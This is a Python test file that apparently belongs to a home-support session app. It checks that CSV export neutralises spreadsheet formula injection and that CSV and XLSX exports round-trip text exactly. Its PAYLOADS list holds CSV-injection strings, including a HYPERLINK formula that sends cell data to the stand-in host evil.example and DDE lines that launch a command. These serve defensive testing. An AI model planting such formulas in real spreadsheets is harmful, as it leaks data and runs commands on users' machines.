"""CSV export neutralises formulas (OWASP "CSV injection") and the import gives every text
back exactly as it was; XLSX keeps writing text as inline strings."""

import csv
import datetime as dt
import tempfile
import zipfile
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from homesupport.domain.codes import CodeList, Municipalities
from homesupport.domain.formulas import FORMULA_START, protect_formula, unprotect_formula
from homesupport.domain.sessions import MAX_NICKNAME, MAX_NOTES, Session
from homesupport.resources import resource
from homesupport.services.tabular import export_sessions, import_sessions

TODAY = dt.date(2026, 3, 10)
CODES = CodeList.from_csv(resource("data", "codes.csv"))
MUNICIPALITIES = Municipalities.from_csv(resource("data", "municipalities_fi.csv"))
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+2",
    "''",
]


def session(notes: str, nickname: str | None) -> Session:
    return Session(
        dt.date(2026, 3, 1), 45, "home_visit", "home", notes=notes, client_nickname=nickname
    )


def round_trip(sessions: list[Session], suffix: str, folder: Path) -> list[Session]:
    path = folder / f"sessions.{suffix}"
    export_sessions(path, sessions, suffix)
    imported, problems = import_sessions(path, CODES, MUNICIPALITIES, TODAY)
    assert problems == []
    return [replace_nickname(i.session, i.client_nickname) for i in imported]


def replace_nickname(s: Session, nickname: str | None) -> Session:
    return session(s.notes, nickname)


def test_no_exported_cell_is_a_formula_and_everything_comes_back(tmp_path):
    sessions = [session(p, p) for p in PAYLOADS] + [session("\t=1+2", "Aino")]
    assert round_trip(sessions, "csv", tmp_path) == sessions
    with (tmp_path / "sessions.csv").open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle, delimiter=";") for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")' in cells
    assert "'\t=1+2" in cells and "''=1+2" in cells

    assert round_trip(sessions, "xlsx", tmp_path) == sessions
    with zipfile.ZipFile(tmp_path / "sessions.xlsx") as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and 't="s"' in sheet  # no formula: every text a (shared) string


def test_a_tab_before_a_formula_in_a_hand_made_file_survives_the_import(tmp_path):
    path = tmp_path / "hand.csv"
    path.write_text("date;minutes;mode;programme;notes\n2026-03-01;45;home_visit;home;\t=1+2\n")
    imported, problems = import_sessions(path, CODES, MUNICIPALITIES, TODAY)
    assert problems == [] and imported[0].session.notes == "\t=1+2"


# Text the import keeps as it is (nothing to trim, no control characters), with or without
# something a spreadsheet would run in front.
plain = st.text(
    alphabet=st.characters(blacklist_categories=("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")),
    max_size=60,
).map(str.strip)
led = st.tuples(st.sampled_from(["", "'", "''", "\t", "'\t"]), st.sampled_from(FORMULA_START[:4]))
text = st.one_of(plain, st.tuples(led, plain).map(lambda t: "".join(t[0]) + t[1].strip()))


@given(value=text)
def test_protection_is_undone_exactly(value):
    protected = protect_formula(value)
    assert not protected.startswith(FORMULA_START)
    assert unprotect_formula(protected) == value


@settings(max_examples=60, deadline=None)
@given(notes=st.lists(text, min_size=1, max_size=4), nickname=st.none() | text)
def test_any_text_round_trips_through_csv_and_xlsx(notes, nickname):
    nickname = nickname if nickname and "\t" not in nickname else None  # one line, no tabs
    sessions = [session(n[:MAX_NOTES], nickname and nickname[:MAX_NICKNAME]) for n in notes]
    with tempfile.TemporaryDirectory() as folder:
        assert round_trip(sessions, "csv", Path(folder)) == sessions
        assert round_trip(sessions, "xlsx", Path(folder)) == sessions
